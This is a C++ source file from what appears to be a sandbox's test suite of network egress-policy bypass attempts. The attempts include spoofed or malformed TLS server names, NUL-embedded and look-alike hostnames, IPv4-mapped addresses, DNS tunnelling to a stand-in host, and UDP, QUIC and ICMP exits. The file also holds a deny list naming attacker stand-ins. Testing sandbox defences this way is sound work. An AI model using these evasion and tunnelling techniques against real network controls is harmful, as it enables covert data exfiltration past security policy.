// Attacks on the way out by names, TLS, DNS and other protocols: reaching what this sandbox's
// policy does not allow by making the check and the connection mean different things.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "egress.h"
#include "toolbox.h"

namespace glovebox::attacks {
namespace {

// Policies. Every one allows good.example at port 443.
constexpr const char* kNamed = R"(--net {"allow":["good.example","quiet.example"]})";
constexpr const char* kBelow = R"(--net {"allow":["good.example","*.good.example"]})";
constexpr const char* kPorted = R"(--net {"allow":["good.example:443"]})";
constexpr const char* kHttps = "--net https-only";
constexpr const char* kDenying =
    R"(--net {"deny":["evil.example","*.evil.example","185.220.101.0/24","2a0b:f4c2:2::/48"]})";

template <class Attempt>
Verdict attempt(const Attempt& body) {
  return where_good_is_reached(body);
}

// --- names and addresses -------------------------------------------------------------------------

Verdict other_name(const Args&) {
  return attempt([] {
    return resolve_and_reach({.name = "evil.example"}, 443, client_hello("evil.example"));
  });
}
Verdict other_address(const Args&) {
  return attempt([] { return reach(kEvil4, 80); });
}
Verdict other_address_v6(const Args&) {
  return attempt([] { return reach(kEvil6, 80); });
}
Verdict unasked_address(const Args&) {
  return attempt([] { return reach(kQuiet4, 80); });
}
Verdict longer_name(const Args&) {
  return attempt([] { return resolve_and_reach({.name = "good.example.evil.example"}, 80); });
}
Verdict glued_name(const Args&) {
  return attempt([] { return resolve_and_reach({.name = "evilgood.example"}, 80); });
}
Verdict other_port(const Args&) {
  return attempt([] { return resolve_and_reach({.name = "good.example"}, 22); });
}
Verdict denied_name(const Args&) {
  return attempt([] { return resolve_and_reach({.name = "EVIL.example"}, 8080); });
}
Verdict denied_alias(const Args&) {
  return attempt([] { return resolve_and_reach({.name = "alias.example"}, 8080); });
}
Verdict denied_mapped(const Args&) {
  return attempt([] { return reach("::ffff:185.220.101.1", 80); });
}

// --- TLS -----------------------------------------------------------------------------------------

template <const char* kAddress>
Verdict with_hello(const Hello& hello, std::uint16_t port = 443) {
  return attempt([&] { return reach(kAddress, port, client_hello(hello)); });
}
constexpr char kAtGood[] = "93.184.216.34";
constexpr char kAtEvil[] = "185.220.101.1";

Verdict other_server_name(const Args&) { return with_hello<kAtGood>({{"evil.example"}}); }
Verdict neighbours_server_name(const Args&) { return with_hello<kAtGood>({{"neighbour.example"}}); }
Verdict allowed_name_elsewhere(const Args&) { return with_hello<kAtEvil>({{"good.example"}}); }
Verdict no_server_name(const Args&) { return with_hello<kAtGood>({}); }
Verdict two_extensions(const Args&) {
  return with_hello<kAtGood>({{"good.example", "evil.example"}});
}
Verdict two_names(const Args&) {
  return with_hello<kAtGood>({.names = {"good.example", "evil.example"}, .one_list = true});
}
Verdict nul_in_name(const Args&) {
  return with_hello<kAtGood>({{std::string("good.example\0.evil.example", 26)}});
}
Verdict address_for_name(const Args&) { return with_hello<kAtGood>({{"93.184.216.34"}}); }
Verdict split_hello(const Args&) {
  return with_hello<kAtGood>({.names = {"evil.example"}, .record = 7});
}
// Who waits for exactly 3.1 or 3.3 takes it for something else than TLS, and Go's servers do not.
Verdict odd_version(const Args&) {
  return with_hello<kAtGood>({.names = {"evil.example"}, .version = "\4\2"});
}
// A warning, which some servers step over.
Verdict after_alert(const Args&) {
  return attempt([] {
    return reach(kGood4, 443, std::string("\x15\3\1\0\2\1\x5a", 7) + client_hello("evil.example"));
  });
}
Verdict not_tls(const Args&) {
  return attempt([] { return reach(kGood4, 443, "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"); });
}
Verdict unknown_name(const Args&) { return with_hello<kAtEvil>({{"nowhere.example"}}); }
Verdict tls_elsewhere(const Args&) { return with_hello<kAtGood>({{"good.example"}}, 8443); }
Verdict plain_http(const Args&) {
  return attempt([] { return reach(kGood4, 80); });
}
Verdict server_first(const Args&) {
  return attempt([] { return reach(kGood4, 25); });
}

// --- questions -----------------------------------------------------------------------------------

Verdict by_answer(const Question& question) {
  return attempt([&] {
    const Names names = ask(question);
    if (names.addresses.empty() && names.texts.empty()) {
      return denied(names.answered ? "code " + std::to_string(names.code) : "no answer");
    }
    return succeeded("the DNS outside was told and answered");
  });
}
Verdict tunnel(const Args&) { return by_answer({.name = "5ec4e7da.tunnel.example"}); }
Verdict tunnel_txt(const Args&) {
  return by_answer({.name = "5ec4e7da.tunnel.example", .type = kTypeTxt});
}
Verdict tunnel_other_resolver(const Args&) {
  return by_answer({.name = "5ec4e7da.tunnel.example", .server = "8.8.8.8"});
}
Verdict tunnel_tcp(const Args&) {
  return by_answer({.name = "5ec4e7da.tunnel.example", .server = "8.8.8.8", .over_tcp = true});
}
Verdict tunnel_nul(const Args&) {
  return by_answer({.labels = {std::string("good.example\0x", 14), "tunnel", "example"}});
}
Verdict txt_of_allowed(const Args&) {
  return by_answer({.name = "good.example", .type = kTypeTxt});
}
Verdict https_record(const Args&) {
  return by_answer({.name = "good.example", .type = kTypeHttps});
}

// --- other protocols -----------------------------------------------------------------------------

template <const char* kAddress, std::uint16_t kPort>
Verdict datagram(const Args&) {
  return attempt([] {
    sockaddr_storage place{};
    auto* v4 = reinterpret_cast<sockaddr_in*>(&place);
    auto* v6 = reinterpret_cast<sockaddr_in6*>(&place);
    socklen_t size = sizeof *v4;
    v4->sin_family = AF_INET;
    v4->sin_port = htons(kPort);
    if (inet_pton(AF_INET, kAddress, &v4->sin_addr) != 1) {
      v6->sin6_family = AF_INET6;
      v6->sin6_port = htons(kPort);
      size = sizeof *v6;
      inet_pton(AF_INET6, kAddress, &v6->sin6_addr);
    }
    const int fd = socket(place.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return denied_by_errno("socket", errno);
    char back[16];
    pollfd poller{fd, POLLIN, 0};
    errno = ETIMEDOUT;
    const bool there = connect(fd, reinterpret_cast<sockaddr*>(&place), size) == 0 &&
                       send(fd, "x", 1, 0) == 1 && poll(&poller, 1, 1000) == 1 &&
                       recv(fd, back, sizeof back, 0) == 1;
    const int err = errno;
    close(fd);
    if (there) return succeeded("a datagram came back");
    return denied_by_errno("a datagram", err);
  });
}
constexpr char kGoodPlace[] = "93.184.216.34";
constexpr char kGoodPlace6[] = "2606:2800:220:1::34";

Verdict ping(const Args&) {
  return attempt([] {
    const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
    if (fd < 0) return denied_by_errno("socket", errno);
    sockaddr_in place{};
    place.sin_family = AF_INET;
    inet_pton(AF_INET, kGood4, &place.sin_addr);
    icmphdr echo{};
    echo.type = ICMP_ECHO;
    char back[256];
    pollfd poller{fd, POLLIN, 0};
    errno = ETIMEDOUT;
    const bool there = sendto(fd, &echo, sizeof echo, 0, reinterpret_cast<sockaddr*>(&place),
                              sizeof place) == sizeof echo &&
                       poll(&poller, 1, 1000) == 1 && recv(fd, back, sizeof back, 0) > 0;
    const int err = errno;
    close(fd);
    return there ? succeeded("an echo came back") : denied_by_errno("ping", err);
  });
}
Verdict ping_control(const Args& args) {
  const std::string group = std::to_string(getegid());
  write_file("/proc/sys/net/ipv4/ping_group_range", group + " " + group);
  return ping(args);
}

const char* const kPins = "gateway: names are pinned to answers";
const char* const kHello = "gateway: the ClientHello is read";
const char* const kQuestions = "gateway: only names that may be reached are asked for";
const char* const kPolicy = "gateway: policy";
const char* const kProtocols = "nftables of the sandbox";

#define GBX_EGRESS(row, aim, wall, step, policy)                                    \
  Attack {                                                                          \
    .name = row, .aims_at = aim, .held_by = wall, .run = step, .needs = "internet", \
    .limits = policy                                                                \
  }

const Attack kAttacks[] = {
    GBX_EGRESS("egress_other_name", "a name that is not allowed", kQuestions, other_name, kNamed),
    GBX_EGRESS("egress_other_address", "an address without a name", kPins, other_address, kNamed),
    GBX_EGRESS("egress_other_address_v6", "an IPv6 address without a name", kPins, other_address_v6,
               kNamed),
    GBX_EGRESS("egress_unasked_address", "an allowed name's address, not asked for", kPins,
               unasked_address, kNamed),
    GBX_EGRESS("egress_longer_name", "a name that begins like an allowed one", kQuestions,
               longer_name, kBelow),
    GBX_EGRESS("egress_glued_name", "a name that ends like an allowed one", kQuestions, glued_name,
               kBelow),
    GBX_EGRESS("egress_other_port", "an allowed name at another port", kPolicy, other_port,
               kPorted),
    GBX_EGRESS("egress_denied_name", "a denied name in other letters", kPolicy, denied_name,
               kDenying),
    GBX_EGRESS("egress_denied_alias", "a denied name by an alias", kPolicy, denied_alias, kDenying),
    GBX_EGRESS("egress_denied_address", "a denied range", kPolicy, other_address, kDenying),
    GBX_EGRESS("egress_denied_address_v6", "a denied IPv6 range", kPolicy, other_address_v6,
               kDenying),
    GBX_EGRESS("egress_denied_mapped", "a denied range as IPv6 spells it", kPolicy, denied_mapped,
               kDenying),
    GBX_EGRESS("egress_denied_server_name", "a denied name at another's address", kHello,
               other_server_name, kDenying),
    GBX_EGRESS("egress_denied_odd_version", "a denied name in records of another version", kHello,
               odd_version, kDenying),
    GBX_EGRESS("egress_denied_after_alert", "a denied name behind a warning", kHello, after_alert,
               kDenying),
    GBX_EGRESS("egress_other_server_name", "another name at an allowed address", kHello,
               other_server_name, kNamed),
    GBX_EGRESS("egress_neighbour_name", "a neighbour on an allowed address", kHello,
               neighbours_server_name, kNamed),
    GBX_EGRESS("egress_name_elsewhere", "another address under an allowed name", kPins,
               allowed_name_elsewhere, kNamed),
    GBX_EGRESS("egress_no_server_name", "TLS that says no name", kHello, no_server_name, kNamed),
    GBX_EGRESS("egress_two_extensions", "TLS that says two names", kHello, two_extensions, kNamed),
    GBX_EGRESS("egress_two_names", "TLS with two names in one list", kHello, two_names, kNamed),
    GBX_EGRESS("egress_nul_in_name", "TLS with a NUL in its name", kHello, nul_in_name, kNamed),
    GBX_EGRESS("egress_address_for_name", "TLS with an address for a name", kHello,
               address_for_name, kNamed),
    GBX_EGRESS("egress_split_hello", "another name, split over records", kHello, split_hello,
               kNamed),
    GBX_EGRESS("egress_not_tls", "port 443 without TLS", kHello, not_tls, kNamed),
    GBX_EGRESS("egress_https_plain", "plain HTTP under https-only", kPolicy, plain_http, kHttps),
    GBX_EGRESS("egress_https_not_tls", "port 443 without TLS under https-only", kHello, not_tls,
               kHttps),
    GBX_EGRESS("egress_https_no_name", "TLS without a name under https-only", kHello,
               no_server_name, kHttps),
    GBX_EGRESS("egress_https_unknown", "a name that is nowhere, at any address", kPins,
               unknown_name, kHttps),
    GBX_EGRESS("egress_https_elsewhere", "a true name, at another's address", kPins,
               allowed_name_elsewhere, kHttps),
    GBX_EGRESS("egress_https_port", "TLS at another port under https-only", kPolicy, tls_elsewhere,
               kHttps),
    GBX_EGRESS("egress_https_mail", "mail under https-only", kPolicy, server_first, kHttps),
    GBX_EGRESS("egress_dns_tunnel", "carrying data out in names", kQuestions, tunnel, kNamed),
    GBX_EGRESS("egress_dns_tunnel_txt", "carrying data in by TXT", kQuestions, tunnel_txt, kNamed),
    GBX_EGRESS("egress_dns_other_server", "another DNS server", kQuestions, tunnel_other_resolver,
               kNamed),
    GBX_EGRESS("egress_dns_tcp", "another DNS server by TCP", kPolicy, tunnel_tcp, kNamed),
    GBX_EGRESS("egress_dns_nul", "a question with a NUL in its name", kQuestions, tunnel_nul,
               kBelow),
    GBX_EGRESS("egress_dns_txt", "other records of an allowed name", kQuestions, txt_of_allowed,
               kNamed),
    GBX_EGRESS("egress_dns_https", "HTTPS records, which hide names", kQuestions, https_record,
               "--net all"),
    GBX_EGRESS("egress_udp", "datagrams", kProtocols, (datagram<kGoodPlace, 9999>), "--net all"),
    GBX_EGRESS("egress_udp_v6", "IPv6 datagrams", kProtocols, (datagram<kGoodPlace6, 9999>),
               "--net all"),
    GBX_EGRESS("egress_quic", "QUIC, whose names are not readable", kProtocols,
               (datagram<kGoodPlace, 443>), "--net all"),
    {.name = "egress_ping",
     .aims_at = "carrying data in echo requests",
     .held_by = kProtocols,
     .run = ping,
     .control = ping_control,
     .absent = EACCES,
     .needs = "internet",
     .limits = "--net all"},
};

}  // namespace

Group egress_policy_attacks() { return {"network", kAttacks}; }

}  // namespace glovebox::attacks
